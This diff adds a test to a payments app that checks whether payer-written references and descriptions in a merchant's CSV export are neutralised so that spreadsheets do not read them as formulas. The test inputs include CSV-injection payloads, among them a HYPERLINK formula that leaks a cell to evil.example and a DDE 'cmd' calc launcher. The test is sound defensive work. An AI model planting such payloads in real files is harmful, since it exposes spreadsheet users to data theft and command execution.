@@ -268,6 +268,44 @@ def test_the_csv_export_holds_the_payments_found(shop: Shop) -> None:
     assert [r["reference"] for r in only] == ["CSV-1"]
 
 
+@pytest.mark.parametrize(
+    ("written", "exported"),
+    [
+        ('=HYPERLINK("http://evil.example/?x="&A1,"Refund")',
+         '\'=HYPERLINK("http://evil.example/?x="&A1,"Refund")'),
+        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("+1+1", "'+1+1"),
+        ("-2+3", "'-2+3"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        ("Table 4 = 2 pax", "Table 4 = 2 pax"),  # a formula's sign only matters first
+        ("x\r=1+1", "x\r=1+1"),  # quoted in its cell: a CR starts no row
+        ("x\n=1+1", "x\n=1+1"),
+    ],
+)  # fmt: skip
+def test_a_payers_text_in_the_csv_is_never_read_as_a_formula(
+    shop: Shop, written: str, exported: str
+) -> None:
+    """The payer writes the reference and the description; the merchant opens the file in a
+    spreadsheet. A leading apostrophe keeps either one text."""
+    from colony.api.idempotency import transfer_id_for
+
+    owner = signed_in(shop)
+    payload = shop.ctx.payments.merchant_qr(shop.merchant)
+    paid = shop.ctx.payments.pay_by_qr(
+        PAYER, "SGD", payload, 101, transfer_id_for("test", "formula"),
+        reference=written, description=written,
+    )  # fmt: skip
+    assert paid.result.name == "ok", paid.result
+    exported_file = owner.get("/merchant/payments.csv").text
+    (row,) = csv.DictReader(io.StringIO(exported_file, newline=""))
+    assert (row["reference"], row["description"]) == (exported, exported)
+    # As a spreadsheet splits it: rows at any line break outside quotes.
+    assert exported_file.count('"') % 2 == 0
+    unquoted = "".join(exported_file.split('"')[::2])
+    assert len(unquoted.splitlines()) == 2  # the header and the one payment
+
+
 def _balances(shop: Shop) -> tuple[int, int]:
     wallet = shop.ctx.wallet_store.by_phone(PAYER, "SGD")
     assert wallet is not None
